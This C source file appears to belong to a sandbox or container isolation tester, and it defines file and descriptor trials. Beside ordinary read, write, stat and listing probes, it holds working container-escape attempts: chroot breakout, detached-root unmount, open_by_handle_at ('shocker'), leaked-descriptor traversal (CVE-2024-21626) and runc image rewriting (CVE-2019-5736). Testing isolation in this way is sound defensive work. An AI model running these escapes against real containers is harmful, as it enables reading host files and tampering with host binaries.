/* Trials on paths and descriptors: reading, writing, nodes, links that lead out, ways out of the root. */
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

/* How many bytes the first read of a file gives, or why it gives none. */
static void try_read(int argc, char **argv)
{
	(void)argc;
	char text[4096];
	int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	result_value(fd < 0 ? -1 : read(fd, text, sizeof text));
}

static void try_cat(int argc, char **argv)
{
	(void)argc;
	const char *text = slurp(argv[0]);
	if (text) fputs(text, stdout);
	else result(-1);
}

/* Opens for writing; writes only if there is something to write. */
static void try_write(int argc, char **argv)
{
	int fd = open(argv[0], O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0 || argc == 1) result(fd);
	else result(write(fd, argv[1], strlen(argv[1])));
}

static void try_create(int argc, char **argv)
{
	int fd = open(argv[0], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd >= 0 && argc > 1 && write(fd, argv[1], strlen(argv[1])) < 0) result(-1);
	else result(fd);
}

static void try_mkdir(int argc, char **argv)
{
	(void)argc;
	result(mkdir(argv[0], 0755));
}

static void try_unlink(int argc, char **argv)
{
	(void)argc;
	result(unlink(argv[0]));
}

static void try_chmod(int argc, char **argv)
{
	(void)argc;
	result(chmod(argv[0], number(argv[1])));
}

static void try_chown(int argc, char **argv)
{
	(void)argc;
	result(chown(argv[0], number(argv[1]), number(argv[2])));
}

static void show_stat(int argc, char **argv)
{
	(void)argc;
	struct stat st;
	if (lstat(argv[0], &st) < 0) {
		result(-1);
		return;
	}
	static const char *const TYPES[] = {
		[S_IFREG >> 12] = "file", [S_IFDIR >> 12] = "directory", [S_IFLNK >> 12] = "link", [S_IFCHR >> 12] = "character",
		[S_IFBLK >> 12] = "block", [S_IFIFO >> 12] = "fifo", [S_IFSOCK >> 12] = "socket",
	};
	printf("{\"type\":\"%s\",\"mode\":%u,\"uid\":%u,\"gid\":%u,\"size\":%lld,\"dev\":%lu,\"ino\":%lu,\"major\":%u,\"minor\":%u}\n",
		TYPES[(st.st_mode & S_IFMT) >> 12], st.st_mode & 07777, st.st_uid, st.st_gid, (long long)st.st_size,
		(unsigned long)st.st_dev, (unsigned long)st.st_ino, major(st.st_rdev), minor(st.st_rdev));
}

static void list(int argc, char **argv)
{
	(void)argc;
	DIR *dir = opendir(argv[0]);
	if (!dir) {
		result(-1);
		return;
	}
	const char *separator = "";
	putchar('[');
	for (struct dirent *entry; (entry = readdir(dir));) {
		if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
		fputs(separator, stdout);
		json_string(entry->d_name);
		separator = ",";
	}
	puts("]");
	closedir(dir);
}

/* Makes a device node, then opens it: a node that can't be opened is worth nothing. */
static void try_mknod(int argc, char **argv)
{
	(void)argc;
	mode_t kind = argv[1][0] == 'b' ? S_IFBLK : S_IFCHR;
	long made = mknod(argv[0], kind | 0666, makedev(number(argv[2]), number(argv[3])));
	attempt("mknod", made);
	attempt("open", open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC));
	attempts_end();
	if (made == 0) unlink(argv[0]);
}

/* Every descriptor that is open, and where it leads. */
static void show_fds(int argc, char **argv)
{
	(void)argc, (void)argv;
	const char *separator = "";
	putchar('[');
	for (int fd = 0; fd < 4096; fd++) {
		char link[64], target[4096];
		struct stat st;
		if (fstat(fd, &st) < 0) continue;
		snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
		ssize_t length = readlink(link, target, sizeof target - 1);
		target[length < 0 ? 0 : length] = 0;
		printf("%s{\"fd\":%d,\"directory\":%s,\"target\":", separator, fd, S_ISDIR(st.st_mode) ? "true" : "false");
		json_string(target);
		putchar('}');
		separator = ",";
	}
	puts("]");
}

/* CVE-2024-21626: any open directory is a way to `..` of the host. */
static void leak_through_fds(int argc, char **argv)
{
	(void)argc;
	for (int fd = 0; fd < 4096; fd++) {
		char up[4096] = "";
		struct stat st;
		if (fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode)) continue;
		for (int i = 0; i < 32; i++) strcat(up, "../");
		strncat(up, argv[0], sizeof up - strlen(up) - 1);
		if (openat(fd, up, O_RDONLY | O_CLOEXEC) >= 0) {
			printf("ok %d\n", fd);
			return;
		}
	}
	puts("ENOENT");
}

/* The classic: with a directory held open across chroot, `..` leads past the root. `ok` means that
 * the host's file PATH was read. */
static void escape_by_chroot(int argc, char **argv)
{
	(void)argc;
	mkdir("/tmp/chroot-escape", 0755);
	int held = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	attempt("chroot", chroot("/tmp/chroot-escape"));
	attempt("fchdir", fchdir(held));
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0) break;
	attempt("chroot-again", chroot("."));
	attempt("host-file", open(argv[0], O_RDONLY | O_CLOEXEC));
	attempts_end();
}

/* Puts the old root back over nothing: what pivot_root without a detach would allow. */
static void escape_by_umount(int argc, char **argv)
{
	(void)argc;
	extern int umount2(const char *, int);
	attempt("umount", umount2("/", 2 /* MNT_DETACH */));
	attempt("host-file", open(argv[0], O_RDONLY | O_CLOEXEC));
	attempts_end();
}

/* open_by_handle_at reaches any inode of a filesystem by number (the "shocker" escape). */
static void open_by_handle(int argc, char **argv)
{
	(void)argc;
	union {
		struct file_handle handle;
		char bytes[sizeof(struct file_handle) + 128];
	} file = { .handle = { .handle_bytes = 128 } };
	int mount_id, at = open(argv[0], O_RDONLY | O_CLOEXEC);
	attempt("name_to_handle_at", name_to_handle_at(AT_FDCWD, argv[0], &file.handle, &mount_id, 0));
	attempt("open_by_handle_at", open_by_handle_at(at, &file.handle, O_RDONLY | O_CLOEXEC));
	attempts_end();
}

/* CVE-2019-5736: holds a program's image open and tries, for MS milliseconds, to open it for
 * writing, while it runs and after. Prints the attempts' distinct answers; `ok` means that it could. */
static void rewrite_image(int argc, char **argv)
{
	char link[64];
	long until_ms = argc > 1 ? number(argv[1]) : 300;
	int held = open(argv[0], O_RDONLY | O_CLOEXEC), last = -1;
	attempt("read", held);
	snprintf(link, sizeof link, "/proc/self/fd/%d", held);
	for (long ms = 0; ms <= until_ms; ms++) {
		int fd = held < 0 ? open(argv[0], O_WRONLY | O_CLOEXEC) : open(link, O_WRONLY | O_CLOEXEC);
		int answer = fd >= 0 ? 0 : errno;
		if (answer != last) attempt("write", fd);
		last = answer;
		nanosleep(&(struct timespec){ .tv_nsec = 1000000 }, NULL);
	}
	attempts_end();
}

static void follow(int argc, char **argv)
{
	(void)argc;
	char target[4096];
	ssize_t length = readlink(argv[0], target, sizeof target - 1);
	if (length < 0) {
		result(-1);
		return;
	}
	target[length] = 0;
	puts(target);
}

static void set_attribute(int argc, char **argv)
{
	(void)argc;
	result(setxattr(argv[0], argv[1], argv[2], strlen(argv[2]), 0));
}

const struct trial FILE_TRIALS[] = {
	{ "read", "PATH", try_read, 1 },
	{ "cat", "PATH", try_cat, 1 },
	{ "write", "PATH [TEXT]", try_write, 1 },
	{ "create", "PATH [TEXT]", try_create, 1 },
	{ "mkdir", "PATH", try_mkdir, 1 },
	{ "unlink", "PATH", try_unlink, 1 },
	{ "chmod", "PATH MODE", try_chmod, 2 },
	{ "chown", "PATH UID GID", try_chown, 3 },
	{ "setxattr", "PATH NAME VALUE", set_attribute, 3 },
	{ "stat", "PATH", show_stat, 1 },
	{ "readlink", "PATH", follow, 1 },
	{ "list", "PATH", list, 1 },
	{ "mknod", "PATH c|b MAJOR MINOR", try_mknod, 4 },
	{ "fds", "", show_fds, 0 },
	{ "leak-through-fds", "HOST_PATH_WITHOUT_SLASH", leak_through_fds, 1 },
	{ "escape-by-chroot", "HOST_PATH", escape_by_chroot, 1 },
	{ "escape-by-umount", "HOST_PATH", escape_by_umount, 1 },
	{ "open-by-handle", "PATH", open_by_handle, 1 },
	{ "rewrite-image", "PATH [MS]", rewrite_image, 1 },
	{ 0 },
};
